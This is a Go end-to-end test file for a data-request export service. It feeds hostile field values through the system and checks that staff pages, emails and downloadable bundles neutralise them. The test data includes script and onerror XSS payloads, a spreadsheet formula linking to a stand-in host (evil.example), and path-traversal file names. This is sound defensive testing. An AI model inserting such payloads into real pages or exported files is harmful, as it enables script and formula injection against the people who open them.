//go:build e2e

package e2e

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"regexp"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"golang.org/x/net/html"

	"github.com/writ-dsr/writ/infra/stand/person"
	"github.com/writ-dsr/writ/shared/connectors/stripe/stripefake"
	"github.com/writ-dsr/writ/shared/dsr"
	"github.com/writ-dsr/writ/shared/flow/bundle/archive"
)

// Texts as people and vendors really store them, or as somebody means harm.
const (
	markup  = `<script>alert("canary")</script><img src=x onerror=alert(1)></td></table>`
	formula = `=HYPERLINK("http://evil.example/?canary","open me")`
	mixed   = "\u202eright to left\u202c עברית العربية 👩🏽‍🚀 é\u0301 \u0000"
)

// Whatever stands in a field is shown as text, the bundle stays whole, and no
// cell of its CSV is a formula.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	l := suite.Enrol(t, Someone("hostile"), Holdings{Courses: 6, Payments: 1, Newsletter: true, Stripe: true})
	text := strings.TrimSuffix(mixed, "\u0000") // PostgreSQL stores no NUL
	long := strings.Repeat("canary "+text+markup, 500<<10/len("canary "+text+markup)+1)
	suite.SQL(t, `UPDATE accounts SET name = $2, phone = $3 WHERE id = $1`, l.Account, long, formula)
	cells := []string{formula, "+1-1", "-2+3", "@SUM(A1)", "\t=1", markup}
	ids := suite.SQL(t, `SELECT id FROM course_progress WHERE account_id = $1 ORDER BY id`, l.Account)
	for i, id := range ids {
		suite.SQL(t, `UPDATE course_progress SET course = $2 WHERE id = $1::text::bigint`, id, cells[i])
	}
	for _, o := range suite.Stripe.Objects(stripefake.Charge) {
		if o["customer"] == l.Customer {
			suite.Stripe.Edit(stripefake.Charge, o.ID(), stripefake.Object{"description": long, "metadata": map[string]any{formula: markup}})
		}
	}
	name := fmt.Sprintf("learners/%d/..\\..\\=canary <img src=x> 👩🏽‍🚀.html", l.Account)
	content := markup + strings.Repeat("x", 500<<10)
	if _, err := suite.Objects().PutObject(t.Context(), &s3.PutObjectInput{Bucket: aws.String(filesBucket), Key: &name, Body: strings.NewReader(content)}); err != nil {
		t.Fatal(err)
	}

	const typed = `=1+1 <b>bold</b> 👩🏽‍🚀 עברית`
	a := l.Ask(t, person.Request{Rights: []string{"access"}, Name: typed})
	l.ConfirmIt(t, a)
	suite.AwaitStatus(t, a.ID, dsr.Completed)
	for _, task := range suite.Staff.Opened(func(task Task) bool { return task.Request == a.ID }) {
		if strings.Contains(string(task.Page.Body), "<b>bold") || !strings.Contains(task.Page.Text(), typed) {
			t.Errorf("the task at %s does not show the name as text", task.System)
		}
	}
	for _, m := range l.Letters(t) {
		if strings.Contains(m.HTML, "<b>bold") || strings.Contains(m.Text, "canary ") {
			t.Errorf("the mail %q repeats what the person or a system wrote", m.Subject)
		}
	}

	_, link := l.Letter(t, "/download")
	b := Unpack(t, l.Fetch(t, link))
	account := b.JSON(t, "app", "account")
	if len(account) != 1 || account[0]["name"] != long || account[0]["phone"] != formula {
		t.Error("the account's fields are not as stored")
	}
	found := map[any]bool{}
	for _, row := range b.JSON(t, "app", "course_progress") {
		found[row["course"]] = true
	}
	for _, cell := range cells {
		if !found[cell] {
			t.Errorf("the JSON has no course %q", cell)
		}
	}
	neutral := map[string]bool{}
	for _, row := range b.CSV(t, "app", "course_progress") {
		neutral[row["course"]] = true
	}
	for _, cell := range cells[:5] {
		if !neutral["'"+cell] {
			t.Errorf("the CSV has no neutral form of %q, only %v", cell, neutral)
		}
	}
	charges := 0
	for _, row := range b.JSON(t, "stripe", "charge") {
		if row["description"] == long {
			charges++
		}
	}
	if charges != stripefake.Charges {
		t.Errorf("%d charges have the long description, want %d", charges, stripefake.Charges)
	}
	formulas := 0
	for file, body := range b.Files {
		if !plainName.MatchString(file) || strings.Contains(file, "..") {
			t.Errorf("the bundle has a file %q: names are ours", file)
		}
		if !strings.HasSuffix(file, ".csv") {
			continue
		}
		for _, line := range csvCells(t, file, body) {
			if line != "" && strings.ContainsRune("=+-@\t\r", rune(line[0])) && !number.MatchString(line) {
				formulas++
			}
		}
	}
	if formulas != 0 {
		t.Errorf("%d cells of the CSV files would be computed", formulas)
	}
	for _, e := range b.Manifest.Files {
		if e.System == "files" && e.Kind == archive.KindFile && (string(b.Files[e.Name]) != content || !strings.HasSuffix(name, e.Original) || e.Original == "") {
			t.Errorf("the file %q is not the one that was handed in", e.Original)
		}
	}
	if n := b.Rows("files", "coursework"); n != 1 {
		t.Errorf("the bundle has %d files, want 1", n)
	}
	page, err := html.Parse(bytes.NewReader(b.Files["index.html"]))
	if err != nil {
		t.Fatal(err)
	}
	for n := range page.Descendants() {
		if n.Type == html.ElementNode && (n.Data == "script" || n.Data == "img" || n.Data == "iframe") {
			t.Errorf("index.html has a %s element", n.Data)
		}
	}
}

var (
	plainName = regexp.MustCompile(`^[A-Za-z0-9._/-]+$`)
	number    = regexp.MustCompile(`^-?[0-9.]+$`)
)

func csvCells(t testing.TB, name string, body []byte) (cells []string) {
	t.Helper()
	for _, row := range readCSV(t, name, body) {
		cells = append(cells, row...)
	}
	return cells
}

// What an employee uploads is in the bundle, and told as a person's word.
func TestUploadedFilesAreAttested(t *testing.T) {
	t.Parallel()
	l := suite.Enrol(t, Someone("supported"), Holdings{Courses: 1})
	suite.Staff.Rule(t, func(task Task) (string, bool) {
		return Hold, task.Email == l.Email && strings.HasPrefix(task.System, "Zendesk")
	})
	id := l.Start(t, "", "access")
	task := suite.Staff.Await(t, "at Zendesk", func(task Task) bool { return task.Request == id && strings.HasPrefix(task.System, "Zendesk") })
	files := map[string]string{"conversation.txt": "Dear support, canary\n", "=export.csv": "id,text\n1,canary\n"}
	suite.Staff.Answer(t, task, "uploaded", func(page *person.Page) {
		early, err := press(t.Context(), page, "answer", map[string]string{"answer": "uploaded"})
		if err != nil || early.Status != http.StatusBadRequest {
			t.Fatalf("answering before any file came: %v, %v", early, err)
		}
		for name, content := range files {
			// Each file takes a form of its own, which the page shows with every refusal.
			refused, err := press(t.Context(), page, "answer", nil)
			if err != nil || refused.Status != http.StatusBadRequest {
				t.Fatalf("no answer at all: %v, %v", refused, err)
			}
			if status := upload(t, refused, name, content); status >= 400 {
				t.Fatalf("uploading %s: the storage answered %d", name, status)
			}
		}
	})
	suite.AwaitStatus(t, id, dsr.Completed)
	suite.WantOutcome(t, id, "zendesk#gather", "support", dsr.Attested, len(files))
	v := suite.Visits(t, id)["zendesk#gather"]
	if o, _ := Outcome(v, "support"); o.By != "support_lead" || v.Person.Files != len(files) {
		t.Errorf("attested by %q with %d files", o.By, v.Person.Files)
	}
	letter, link := l.Letter(t, "/download")
	if !strings.Contains(letter.Text, "done by a person of our team, who added 2 file(s)") {
		t.Errorf("the mail does not tell of the files:\n%s", letter.Text)
	}
	b := Unpack(t, l.Fetch(t, link))
	if n := b.Rows("zendesk", "support"); n != len(files) {
		t.Fatalf("the bundle has %d files of Zendesk, want %d", n, len(files))
	}
	contents := map[string]bool{}
	for _, e := range b.Manifest.Files {
		if e.System == "zendesk" {
			contents[string(b.Files[e.Name])] = true
			if !plainName.MatchString(e.Name) {
				t.Errorf("the bundle has a file %q: names are ours", e.Name)
			}
		}
	}
	for name, content := range files {
		if !contents[content] {
			t.Errorf("%s is not in the bundle as it was uploaded", name)
		}
	}
	for _, s := range b.Manifest.Systems {
		if s.ID == "zendesk" && (len(s.Outcomes) != 1 || s.Outcomes[0].Outcome != string(dsr.Attested)) {
			t.Errorf("the manifest calls it %+v", s.Outcomes)
		}
	}
}

// upload sends a file by the page's own form, straight to object storage.
func upload(t testing.TB, page *person.Page, name, content string) (status int) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page.Body))
	if err != nil {
		t.Fatal(err)
	}
	attr := func(n *html.Node, key string) string {
		for _, a := range n.Attr {
			if a.Key == key {
				return a.Val
			}
		}
		return ""
	}
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	action := ""
	for n := range root.Descendants() {
		if n.Type != html.ElementNode || n.Data != "form" || attr(n, "enctype") != "multipart/form-data" {
			continue
		}
		action = attr(n, "action")
		for field := range n.Descendants() {
			if field.Type == html.ElementNode && field.Data == "input" && attr(field, "type") == "hidden" {
				if err := form.WriteField(attr(field, "name"), attr(field, "value")); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
	if action == "" {
		t.Fatal("the task's page has no form to upload with")
	}
	header := textproto.MIMEHeader{"Content-Disposition": {fmt.Sprintf(`form-data; name="file"; filename=%q`, name)}, "Content-Type": {"application/octet-stream"}}
	part, err := form.CreatePart(header)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(part, content); err != nil {
		t.Fatal(err)
	}
	if err := form.Close(); err != nil {
		t.Fatal(err)
	}
	answer, err := person.NewBrowser().Post(t.Context(), action, form.FormDataContentType(), body.String())
	if err != nil {
		t.Fatal(err)
	}
	return answer.Status
}
